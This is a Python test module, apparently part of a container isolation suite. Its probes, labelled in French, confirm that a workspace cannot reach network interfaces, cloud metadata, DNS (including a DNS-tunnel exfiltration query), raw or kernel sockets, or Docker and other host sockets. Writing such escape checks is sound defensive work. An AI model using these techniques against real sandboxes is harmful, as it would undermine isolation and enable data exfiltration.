"""The network that a workspace does not have: addresses, names, raw sockets, sockets of the machine."""

from __future__ import annotations

import os
import socket
import stat
import struct
from pathlib import Path

from tests.isolation.inside.frame import Facts, Got, attempt, need, probe

SHORT_S = 0.3
AF_VSOCK, AF_ALG, AF_XDP, AF_BLUETOOTH, AF_CAN, AF_KEY, AF_TIPC = 40, 38, 44, 31, 29, 15, 30
NETLINK = {
    "audit": 9, "diag": 4, "uevent": 15, "generic": 16, "netfilter": 12, "xfrm": 6, "selinux": 7, "crypto": 21,
}  # fmt: skip


@probe("Trouver une carte réseau ou une route")
def cards_and_routes(facts: Facts) -> Got:
    cards = [name for _, name in socket.if_nameindex()]
    need("lo" in cards, "there is not even a loopback")
    found = [f"carte {name}" for name in cards if name != "lo"]
    lines = Path("/proc/net/route").read_text(encoding="ascii").splitlines()[1:]
    found += [f"route {line.split()[0]} {line.split()[1]}" for line in lines]
    six = Path("/proc/net/ipv6_route").read_text(encoding="ascii").splitlines()
    return found + [f"route {line.split()[-1]}" for line in six if line.split()[-1] != "lo"]


@probe("Joindre un port de la machine, à chacune de ses adresses")
def ports_of_the_machine(facts: Facts) -> Got:
    need(facts["addresses"], "the machine has no address")
    found = []
    for address, port in facts["addresses"]:
        found += attempt(f"tcp {address}:{port}", _hear, socket.SOCK_STREAM, address, port)
        found += attempt(f"udp {address}:{port}", _hear, socket.SOCK_DGRAM, address, port)
    return found


def _hear(kind: int, address: str, port: int) -> bytes:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, kind) as client:
        client.settimeout(SHORT_S)
        client.connect((address, port))
        client.send(b"bonjour")
        return client.recv(64)


@probe("Joindre l'adresse où un hébergeur en nuage donne des secrets (métadonnées)")
def metadata_of_the_cloud(facts: Facts) -> Got:
    return [
        each
        for address in facts["metadata"]
        for each in attempt(f"http://{address}/", _hear, socket.SOCK_STREAM, address, 80)
    ]


@probe("Résoudre un nom, ou s'en servir pour sortir des données (tunnel DNS)")
def names_resolved(facts: Facts) -> Got:
    lines = Path("/etc/resolv.conf").read_text(encoding="ascii").splitlines()
    servers = [line.split()[1] for line in lines if line.startswith("nameserver ")]
    found = attempt("getaddrinfo", socket.getaddrinfo, facts["name_to_resolve"], 80)
    for server in {*servers, "127.0.0.11", "127.0.0.53", "127.0.0.1", *facts["name_servers"]}:
        question = _question(f"{b'secret'.hex()}.{facts['name_to_resolve']}")
        found += attempt(f"udp {server}:53", _ask_name, server, question)
        found += attempt(f"tcp {server}:53", _hear, socket.SOCK_STREAM, server, 53)
    return found


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def _ask_name(server: str, question: bytes) -> str:
    """What comes back; a question that left for another machine is an exit, answered or not."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(SHORT_S)
        client.connect((server, 53))
        client.send(question)
        if not server.startswith("127."):
            return "envoyée"
        return client.recv(512).hex()


@probe("Ouvrir un socket brut, de paquets, de l'hyperviseur (vsock) ou du noyau (netlink, alg…)")
def unusual_sockets(facts: Facts) -> Got:
    raw = socket.SOCK_RAW
    kinds = [
        ("icmp", socket.AF_INET, raw, socket.IPPROTO_ICMP),
        ("icmp6", socket.AF_INET6, raw, socket.IPPROTO_ICMPV6),
        ("paquets", socket.AF_PACKET, raw, 0),
        ("vsock", AF_VSOCK, socket.SOCK_STREAM, 0),
        ("vsock datagramme", AF_VSOCK, socket.SOCK_DGRAM, 0),
        ("alg", AF_ALG, socket.SOCK_SEQPACKET, 0),
        ("xdp", AF_XDP, raw, 0),
        ("bluetooth", AF_BLUETOOTH, raw, 1),
        ("can", AF_CAN, raw, 1),
        ("clés", AF_KEY, raw, 2),
        ("tipc", AF_TIPC, socket.SOCK_RDM, 0),
        *((f"netlink {name}", socket.AF_NETLINK, raw, number) for name, number in NETLINK.items()),
    ]
    return [each for name, *details in kinds for each in attempt(name, _opened, *details)]


def _opened(family: int, kind: int, protocol: int) -> str:
    with socket.socket(family, kind, protocol):
        return "ouvert"


@probe("Joindre un socket abstrait de la machine ou d'un voisin", helper=lambda facts: _abstract_listener())
def abstract_sockets(facts: Facts, helper: object) -> Got:
    helper()  # type: ignore[operator]
    names = [f"\0{facts['abstract_of_the_machine']}", "\0datalab-voisin"]
    lines = Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]
    names += [f"\0{line.split()[7][1:]}" for line in lines if len(line.split()) > 7 and line.split()[7].startswith("@")]
    return [each for name in names for each in attempt(name[1:], _connected, name)]


def _abstract_listener() -> socket.socket:
    server = socket.socket(socket.AF_UNIX)
    server.bind("\0datalab-voisin")
    server.listen()
    return server


def _connected(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(SHORT_S)
        client.connect(name)
        return "connecté"


@probe("Joindre Docker, containerd, le gardien, le hub, ou tout autre socket que l'on voit")
def sockets_in_sight(facts: Facts) -> Got:
    run = facts["run"]
    usual = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/docker.sock"]
    usual += [f"{run}/{name}/{name}.sock" for name in ("guard", "signin", "hub", "identity")]
    own = {"/run/ws/j.sock", "/run/hub/hub.sock"}
    need(own <= set(_sockets()), f"its own sockets are not seen: {_sockets()}")
    seen = [path for path in _sockets() if path not in own and not path.startswith(("/projet-autres/", "/tmp/"))]
    return [each for path in dict.fromkeys(usual + seen) for each in attempt(path, _connected, path)]


def _sockets() -> list[str]:
    found = (
        ["/run/hub/hub.sock"] if stat.S_ISSOCK(os.stat("/run/hub/hub.sock").st_mode) else []
    )  # its folder is not listed
    for folder, names, files in os.walk("/"):
        names[:] = [name for name in names if f"{folder.rstrip('/')}/{name}" not in {"/proc", "/sys", "/opt", "/usr"}]
        found += [path for name in files if _is_socket(path := os.path.join(folder, name))]
    return found


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False
